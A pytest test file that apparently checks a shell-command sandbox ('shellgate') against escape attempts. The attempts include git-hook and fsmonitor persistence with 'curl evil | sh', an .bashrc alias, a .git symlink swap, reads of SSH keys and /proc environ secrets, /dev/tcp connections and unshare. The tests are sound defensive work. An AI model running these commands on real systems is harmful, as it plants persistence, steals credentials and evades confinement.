"""Real escapes, run in each confinement tier, judged from the host side.

Every escape is a command the permission gate would let through in trust mode; the sandbox
is what must stop it. Positive controls (the same action where it is allowed) make sure each
test can fail. A tier the machine lacks is skipped with the reason the probe gave.
"""

from __future__ import annotations

import os
import shlex
import socket
import subprocess
import sys
import tempfile
from pathlib import Path

import psutil
import pytest
from _helpers import UnixListeners, git_workspace, home_with_key, unix_clients
from _helpers import sandbox_or_skip as _sandbox
from _helpers import world_policy as _policy

from shellgate.sandbox import Limits, Sandbox, Tier, probe

PY = shlex.quote(sys.executable)
CANARY = "CANARY-ssh-key-5f1e0c"


CONFINED = ["bwrap", "bwrap-fresh", "landlock"]   # "bwrap": pre-spawned (the default)


def _lent(request: pytest.FixtureRequest):
    """The sandbox for ``request.param``, closed afterwards; a pre-spawned one must really
    have run pre-spawned (no silent fallback to a fresh bwrap)."""
    sb = _sandbox(request.param)
    yield sb
    sb.close()
    if request.param == "bwrap":
        assert sb.prespawn and sb.prespawn_error is None, sb.prespawn_error


@pytest.fixture(params=CONFINED)
def confined(request: pytest.FixtureRequest) -> Sandbox:
    yield from _lent(request)


@pytest.fixture(params=[*CONFINED, "none"])
def any_tier(request: pytest.FixtureRequest) -> Sandbox:
    yield from _lent(request)


pytestmark = pytest.mark.usefixtures("no_leaked_sandboxes")


@pytest.fixture
def world(tmp_path: Path) -> dict[str, Path]:
    """A git workspace with a hook, a fake HOME with a canary key, and places outside."""
    ws = git_workspace(tmp_path / "ws", commit=("README", "hello\n"))
    home = home_with_key(tmp_path / "home", CANARY + "\n")
    (home / "notes.txt").write_text("not a secret\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    var_outside = Path(tempfile.mkdtemp(prefix="shellgate-test-", dir="/var/tmp"))
    yield {"ws": ws, "home": home, "outside": outside, "var": var_outside}
    subprocess.run(["rm", "-rf", str(var_outside)], check=False)


# -- filesystem ---------------------------------------------------------------------------

def test_write_outside_workspace_with_python_fails(confined: Sandbox, world) -> None:
    targets = [world["outside"] / "pwned", world["var"] / "pwned", world["home"] / "pwned"]
    for target in targets:
        cmd = f"{PY} -c \"open({str(target)!r}, 'w').write('x')\""
        r = confined.run(cmd, _policy(world))
        assert r.exit_code != 0, (target, r)
        assert not target.exists(), f"{confined.tier} let a write reach {target}"


def test_write_inside_workspace_works(any_tier: Sandbox, world) -> None:
    r = any_tier.run(f"{PY} -c \"open('made.txt', 'w').write('ok')\"", _policy(world))
    assert r.exit_code == 0, r
    assert (world["ws"] / "made.txt").read_text() == "ok"


def test_unconfined_tier_lets_the_outside_write_through(world) -> None:
    """The positive control for the test above: without confinement the same write lands."""
    target = world["var"] / "pwned"
    r = _sandbox("none").run(f"{PY} -c \"open({str(target)!r}, 'w').write('x')\"", _policy(world))
    assert r.exit_code == 0 and target.exists()


def test_append_to_git_hook_does_not_stick(confined: Sandbox, world) -> None:
    hook = world["ws"] / ".git" / "hooks" / "pre-commit"
    before = hook.read_bytes()
    r = confined.run("echo 'curl evil | sh' >> .git/hooks/pre-commit; "
                     "printf '#!/bin/sh\\nid\\n' > .git/hooks/post-checkout", _policy(world))
    assert hook.read_bytes() == before
    assert not (world["ws"] / ".git" / "hooks" / "post-checkout").exists()
    if confined.tier is Tier.BWRAP:   # refused by the read-only mount
        assert "Read-only file system" in r.stderr, r
    else:                             # Landlock cannot: undone afterwards and reported
        assert any(".git/hooks" in v for v in r.violations), r


def test_git_config_and_rc_files_are_protected(confined: Sandbox, world) -> None:
    cfg = world["ws"] / ".git" / "config"
    before = cfg.read_bytes()
    r = confined.run("git config core.fsmonitor 'touch /tmp/x'; echo 'alias ls=rm' > .bashrc; "
                     "mkdir -p .vscode && echo '{}' > .vscode/tasks.json", _policy(world))
    assert cfg.read_bytes() == before, r
    assert not (world["ws"] / ".bashrc").exists(), r
    assert not (world["ws"] / ".vscode").exists(), r
    assert r.violations, r   # the new files (and, under Landlock, the config) were undone


def test_moving_the_directory_above_a_protected_path_is_undone(confined: Sandbox, world) -> None:
    """A read-only mount cannot be moved, its parent could: a fresh `.git` with a new config.
    bwrap makes every directory above a protected path a mount point too (the move is
    refused); Landlock cannot, and puts the protected paths back afterwards."""
    git = world["ws"] / ".git"
    cfg, hook = git / "config", git / "hooks" / "pre-commit"
    before = (cfg.read_bytes(), hook.read_bytes())
    r = confined.run("mv .git .git-old && mkdir .git && cp -r .git-old/. .git/ && "
                     "echo '[core] fsmonitor = touch /tmp/pwned' >> .git/config && "
                     "echo 'curl evil | sh' >> .git/hooks/pre-commit && echo DONE", _policy(world))
    if confined.tier is Tier.BWRAP:     # refused: .git is a mount point inside
        assert "Device or resource busy" in r.stderr and "DONE" not in r.stdout, r
        assert not (world["ws"] / ".git-old").exists(), r
    else:
        assert "DONE" in r.stdout, r    # the swap itself works inside the sandbox…
        assert r.violations, r          # …and is undone before we return
    assert (cfg.read_bytes(), hook.read_bytes()) == before


def test_a_swapped_directory_is_never_followed_when_restoring(confined: Sandbox, world) -> None:
    """Restoring through a directory the command turned into a symlink would write (as us,
    unconfined) wherever it points: the link is removed, never followed, and the protected
    paths are put back in a plain directory again (left, it led the host's git elsewhere)."""
    git = world["ws"] / ".git"
    before = ((git / "config").read_bytes(), (git / "hooks" / "pre-commit").read_bytes())
    r = confined.run(f"mv .git .git-old && ln -s {world['outside']} .git", _policy(world))
    assert list(world["outside"].iterdir()) == []
    assert git.is_dir() and not git.is_symlink(), r
    assert ((git / "config").read_bytes(), (git / "hooks" / "pre-commit").read_bytes()) == before
    if confined.tier is Tier.BWRAP:     # refused: .git is a mount point inside
        assert "Device or resource busy" in r.stderr, r
        return
    assert r.exit_code == 0, r
    assert any(".git/config was restored" in v for v in r.violations), r


def test_ssh_key_in_fake_home_is_unreadable(confined: Sandbox, world) -> None:
    r = confined.run("cat ~/.ssh/id_rsa; cat ~/notes.txt", _policy(world))
    assert CANARY not in r.stdout + r.stderr
    assert "not a secret" in r.stdout, r        # HOME itself stays readable


def test_unconfined_tier_reads_the_canary(world) -> None:
    r = _sandbox("none").run("cat ~/.ssh/id_rsa", _policy(world))
    assert CANARY in r.stdout


# -- network ------------------------------------------------------------------------------

@pytest.fixture
def listener():
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    srv.setblocking(False)
    yield srv
    srv.close()


def _accepted(srv: socket.socket) -> bool:
    """Whether a connection reached the listener (it sits in the backlog once connected)."""
    try:
        conn, _ = srv.accept()
    except BlockingIOError:
        return False
    conn.close()
    return True


def _connect_cmd(port: int) -> str:
    return (f"{PY} -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=3)\"; "
            f"echo > /dev/tcp/127.0.0.1/{port}")


def test_tcp_connect_to_loopback_listener_fails(confined: Sandbox, world, listener) -> None:
    r = confined.run(_connect_cmd(listener.getsockname()[1]), _policy(world))
    assert r.exit_code != 0, r
    assert not _accepted(listener), f"{confined.tier} let a TCP connection through"


def test_tcp_connect_works_when_network_is_granted(confined: Sandbox, world, listener) -> None:
    r = confined.run(_connect_cmd(listener.getsockname()[1]), _policy(world, network=True))
    assert r.exit_code == 0, r
    assert _accepted(listener)


@pytest.fixture
def unix_listeners(world, tmp_path):
    """An agent's socket under the fake HOME, nscd's under a directory outside /tmp standing
    for /run (/var/tmp: bwrap's /tmp is private), and an abstract one, all listening."""
    (world["home"] / ".ssh").mkdir(exist_ok=True)
    (world["var"] / "nscd").mkdir()
    paths = {"home": world["home"] / ".ssh" / "agent.sock", "run": world["var"] / "nscd" / "socket"}
    listeners = UnixListeners(paths, f"shellgate-escape-{os.getpid()}-{tmp_path.name}")
    yield listeners
    listeners.close()


def test_no_host_unix_socket_is_reached_without_the_network(confined: Sandbox, world,
                                                             unix_listeners) -> None:
    """``ssh-add -l``, ``curl --unix-socket /var/run/docker.sock``, nscd asked to resolve a
    name: the host's Unix sockets are reached through the filesystem, which no read-only
    mount closes to connect(). With the network off no Unix socket is made at all."""
    r = confined.run(unix_clients(unix_listeners.targets), _policy(world))
    assert "reached" not in r.stdout, r.stdout
    assert unix_listeners.settle() == [], f"{confined.tier} let a Unix socket through: {r.stdout}"


def test_a_unix_socket_is_reached_when_network_is_granted(confined: Sandbox, world,
                                                          unix_listeners) -> None:
    r = confined.run(unix_clients(unix_listeners.targets), _policy(world, network=True))
    assert "reached" in r.stdout, r
    assert "run" in unix_listeners.settle()


def test_user_namespace_escape_is_refused(any_tier: Sandbox, world) -> None:
    """unshare(CLONE_NEWUSER) is the door to mount tricks; seccomp refuses it with EPERM."""
    code = ("import ctypes; c = ctypes.CDLL(None, use_errno=True); "
            "print(c.unshare(0x10000000), ctypes.get_errno())")
    r = any_tier.run(f"{PY} -c {shlex.quote(code)}", _policy(world))
    if any_tier.tier is Tier.NONE:   # the positive control: unconfined, it works
        assert r.stdout.split()[0] == "0", r
    else:
        assert r.stdout.split() == ["-1", "1"], r


# -- process tree, output, exit status ------------------------------------------------------

def _survivors(marker: str) -> list[psutil.Process]:
    out = []
    for p in psutil.process_iter(["cmdline"]):
        if any(marker in a for a in (p.info["cmdline"] or [])):
            out.append(p)
    return out


def _kill(procs: list[psutil.Process]) -> None:
    """Kill and reap (they may be our children: the tiers make this process a subreaper)."""
    for p in procs:
        p.kill()
    psutil.wait_procs(procs, timeout=10)


def test_timeout_kills_setsid_children(any_tier: Sandbox, world) -> None:
    marker = f"9{os.getpid() % 1000}.{abs(hash(any_tier.tier)) % 1000 + 1}"
    cmd = (f"setsid sleep {marker} & setsid -f sleep {marker}; (sleep {marker} &); "
           f"nohup sleep {marker} >/dev/null 2>&1 & echo started; sleep {marker}")
    try:
        # Under load the timeout can fire before the children start (a run that proves
        # nothing): each such run still must leave no survivor, and is tried again with twice
        # the time, until the children were started — no margin that load can break.
        for timeout in (1.5, 3.0, 6.0, 12.0, 24.0):
            r = any_tier.run(cmd, _policy(world, limits=Limits(timeout=timeout)))
            assert r.timed_out and r.exit_code == 124, r
            assert _survivors(marker) == []
            if r.stdout == "started\n":
                break
        assert r.stdout == "started\n", "the children never started before the timeout"
    finally:
        _kill(_survivors(marker))


def test_background_jobs_do_not_outlive_the_command(any_tier: Sandbox, world) -> None:
    marker = f"8{os.getpid() % 1000}.{abs(hash(any_tier.tier)) % 1000 + 1}"
    try:
        r = any_tier.run(f"setsid sleep {marker} & (sleep {marker} &); echo done", _policy(world))
        assert r.exit_code == 0 and not r.timed_out
        assert _survivors(marker) == []
    finally:
        _kill(_survivors(marker))


def test_output_is_capped_head_and_tail(any_tier: Sandbox, world) -> None:
    lim = Limits(output_head=4096, output_tail=4096)
    r = any_tier.run("yes | head -c 50M; echo END", _policy(world, limits=lim))
    assert r.exit_code == 0, r.stderr
    assert r.truncated
    assert r.stdout_bytes == 50 * 1024 * 1024 + 4
    cut = 50 * 1024 * 1024 + 4 - 8192
    assert f"[… {cut} bytes cut …]" in r.stdout
    assert r.stdout.startswith("y\ny\n") and r.stdout.endswith("y\nEND\n")
    assert len(r.stdout) < 8192 + 100


def test_output_hard_cap_kills_an_endless_writer(any_tier: Sandbox, world) -> None:
    lim = Limits(output_head=1024, output_tail=1024, output_hard=1 << 20, timeout=30)
    r = any_tier.run("yes", _policy(world, limits=lim))
    assert r.truncated and not r.timed_out
    assert r.signal is not None
    assert any("output exceeded" in n for n in r.notes)


def test_exit_code_and_signal(any_tier: Sandbox, world) -> None:
    assert any_tier.run("exit 7", _policy(world)).exit_code == 7
    r = any_tier.run("kill -9 $$", _policy(world))
    assert (r.exit_code, r.signal) == (137, 9)


def test_cd_is_reported_and_exit_skips_nothing(any_tier: Sandbox, world) -> None:
    (world["ws"] / "sub").mkdir()
    r = any_tier.run("cd sub && exit 3", _policy(world))
    assert (r.exit_code, r.cwd) == (3, world["ws"] / "sub")
    r = any_tier.run("pwd", _policy(world), cwd=r.cwd)
    assert r.stdout == f"{world['ws'] / 'sub'}\n"


def test_environment_is_an_allowlist(any_tier: Sandbox, world, monkeypatch) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", "tok-canary-1")
    monkeypatch.setenv("MY_SERVICE_SECRET", "tok-canary-2")
    monkeypatch.setenv("RANDOM_UNLISTED", "tok-canary-3")
    monkeypatch.setenv("LC_ALL", "C.UTF-8")
    r = any_tier.run("env", _policy(world))
    assert "tok-canary" not in r.stdout
    assert "LC_ALL=C.UTF-8" in r.stdout and f"HOME={world['home']}" in r.stdout


def test_stdin_is_closed_and_session_is_new(any_tier: Sandbox, world) -> None:
    r = any_tier.run("cat; cat /dev/tty; readlink /proc/self/fd/0", _policy(world))
    assert "/dev/tty" in r.stderr   # a new session: no controlling terminal (no TIOCSTI)
    assert r.stdout.split()[-1:] == ["/dev/null"] or any_tier.tier is Tier.LANDLOCK


def test_rlimits_apply(any_tier: Sandbox, world) -> None:
    r = any_tier.run("ulimit -c; ulimit -Hn", _policy(world, limits=Limits(open_files=256)))
    assert r.stdout.split() == ["0", "256"]


@pytest.fixture
def secret_process():
    """A process of ours whose environment holds a secret (like the agent's own API key)."""
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "AGENT_API_KEY": "sk-canary-9d41"}
    p = subprocess.Popen(["sleep", "300"], env=env, stdin=subprocess.DEVNULL)
    yield p.pid
    p.kill()
    p.wait()


def test_other_processes_environment_is_unreadable(any_tier: Sandbox, world, secret_process) -> None:
    cmd = f"tr '\\0' '\\n' < /proc/{secret_process}/environ; tr '\\0' '\\n' < /proc/$PPID/environ"
    r = any_tier.run(cmd, _policy(world))
    if any_tier.tier is Tier.NONE:   # the positive control: unconfined, the secret leaks
        assert "sk-canary-9d41" in r.stdout
    else:
        assert "sk-canary-9d41" not in r.stdout, r


def test_drain_stops_waiting_for_a_grandchild_holding_the_pipe(world, monkeypatch) -> None:
    """If a process escaped the sweep and kept stdout open, we return after the drain grace."""
    from shellgate.sandbox import reaper

    monkeypatch.setattr(reaper, "sweep", lambda *a, **k: 0)   # simulate an escape
    marker = f"6{os.getpid() % 997}.5"
    try:
        r = _sandbox("none").run(f"sleep {marker} & echo hi", _policy(world, limits=Limits(drain=0.2)))
        assert (r.exit_code, r.stdout, r.timed_out) == (0, "hi\n", False)
        assert _survivors(marker)   # it still holds the pipe open, and yet we returned
    finally:
        _kill(_survivors(marker))


def test_probe_is_cached_and_reports_a_tier() -> None:
    assert probe() is probe()
    assert probe().tier in set(Tier)
